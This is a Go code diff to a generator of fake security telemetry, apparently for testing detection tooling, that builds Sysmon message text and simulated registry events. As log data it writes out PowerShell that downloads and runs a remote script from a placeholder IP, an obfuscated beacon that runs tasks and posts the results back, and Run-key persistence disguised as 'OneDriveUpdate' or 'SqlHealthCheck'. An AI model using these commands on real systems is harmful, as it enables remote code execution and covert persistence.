@@ -343,7 +343,27 @@ func (g *evGen) sysmon(c alertCast, host map[string]any, at time.Time, code int,
 	w["user"] = map[string]any{"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "User"}
 	src["winlog"] = w
 	if _, ok := src["message"]; !ok {
-		src["message"] = action + ":\nRuleName: -\nUtcTime: " + data["UtcTime"].(string)
+		// as Sysmon renders it: the event's own fields, the telling ones
+		msg := action[:strings.Index(action+" (", " (")] + ":\nRuleName: -\nUtcTime: " + data["UtcTime"].(string)
+		p, _ := src["process"].(map[string]any)
+		if p != nil {
+			msg += fmt.Sprint("\nImage: ", p["executable"])
+			if cl, ok := p["command_line"]; ok {
+				msg += fmt.Sprint("\nCommandLine: ", cl)
+			}
+		}
+		if d, ok := src["destination"].(map[string]any); ok {
+			msg += fmt.Sprint("\nDestinationIp: ", d["ip"], "\nDestinationPort: ", d["port"])
+		}
+		if f, ok := src["file"].(map[string]any); ok {
+			msg += fmt.Sprint("\nImageLoaded: ", f["path"])
+		}
+		for _, k := range []string{"TargetObject", "Details", "TargetImage", "GrantedAccess"} {
+			if v, ok := data[k]; ok {
+				msg += fmt.Sprint("\n", k, ": ", v)
+			}
+		}
+		src["message"] = msg
 	}
 	g.add("windows.sysmon_operational", at, "", src)
 }
@@ -418,6 +438,11 @@ func (g *evGen) windowsPowershell(c alertCast, alerts []storyAlert) {
 		stage2 = "198.51.100.77"
 	}
 	sid := userSID(c.domain, c.psUser)
+	// the Run value the second stage writes: named after something the host runs anyway
+	runName, runValue := "OneDriveUpdate", "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://"+stage2+"/a.ps1')"
+	if !desktop {
+		runName, runValue = "SqlHealthCheck", psExe+` -NoProfile -WindowStyle Hidden -Command "IEX(New-Object Net.WebClient).DownloadString('http://`+stage2+`/a.ps1')"`
+	}
 	for i, a := range alerts {
 		p, _ := a.ecs["process"].(map[string]any)
 		pid := asIntAny(p["pid"])
@@ -446,7 +471,7 @@ func (g *evGen) windowsPowershell(c alertCast, alerts []storyAlert) {
 				"if(${c`m`d}){${o`u`t}=(IEX ${c`m`d} 2>&1|Out-String);${w`e`b}.UploadString(${u`r`l}+'/result',${o`u`t})|Out-Null}}catch{};" +
 				"Start-Sleep -Seconds (Get-Random -Minimum 50 -Maximum 70)};" +
 				"# beacon: polls the server for tasks about once a minute and posts each result back; the task list is fetched with the host name so the operator can tell implants apart." +
-				" Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'OneDriveUpdate' -Value ('powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(''http://" + stage2 + "/a.ps1'')')"
+				" Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '" + runName + "' -Value '" + strings.ReplaceAll(runValue, "'", "''") + "'"
 			g.scriptBlock(c, host, a.at.Add(time.Duration(4+g.rng.IntN(3))*time.Second), c.psUser, pid, stage, "sb2/"+a.eventID, "")
 		}
 		// its connection to the second stage, as Sysmon saw it
@@ -480,13 +505,13 @@ func (g *evGen) windowsPowershell(c alertCast, alerts []storyAlert) {
 			continue
 		}
 		// persistence: the last one wrote a Run key that starts it again at logon
-		value := "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://" + stage2 + "/a.ps1')"
+		value := runValue
 		key := `HKEY_USERS\` + sid + `\Software\Microsoft\Windows\CurrentVersion\Run`
 		at := a.at.Add(time.Duration(8+g.rng.IntN(5)) * time.Second)
 		g.add("endpoint.events.registry", at, "", map[string]any{
 			"host": host, "user": map[string]any{"name": c.psUser, "domain": c.domain},
 			"process": map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": g.streamEntity(a.eventID)},
-			"registry": map[string]any{"hive": "HKEY_USERS", "key": sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "path": key + `\OneDriveUpdate`, "value": "OneDriveUpdate",
+			"registry": map[string]any{"hive": "HKEY_USERS", "key": sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "path": key + `\` + runName, "value": runName,
 				"data": map[string]any{"strings": []any{value}, "type": "REG_SZ"}},
 			"event":   map[string]any{"category": []any{"registry"}, "type": []any{"change"}, "action": "modification", "outcome": "success"},
 			"message": "Endpoint registry event",
@@ -494,8 +519,8 @@ func (g *evGen) windowsPowershell(c alertCast, alerts []storyAlert) {
 		g.sysmon(c, host, at.Add(2*time.Millisecond), 13, "RegistryEvent (Value Set)", "registry", c.psUser, map[string]any{
 			"event":    map[string]any{"type": []any{"change"}},
 			"process":  map[string]any{"name": "powershell.exe", "executable": psExe, "pid": pid, "entity_id": guid},
-			"registry": map[string]any{"hive": "HKU", "key": sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "path": key + `\OneDriveUpdate`, "value": "OneDriveUpdate", "data": map[string]any{"strings": []any{value}, "type": "SZ_SZ"}},
-		}, map[string]any{"EventType": "SetValue", "TargetObject": key + `\OneDriveUpdate`, "Details": value})
+			"registry": map[string]any{"hive": "HKU", "key": sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "path": key + `\` + runName, "value": runName, "data": map[string]any{"strings": []any{value}, "type": "SZ_SZ"}},
+		}, map[string]any{"EventType": "SetValue", "TargetObject": key + `\` + runName, "Details": value})
 	}
 }
 
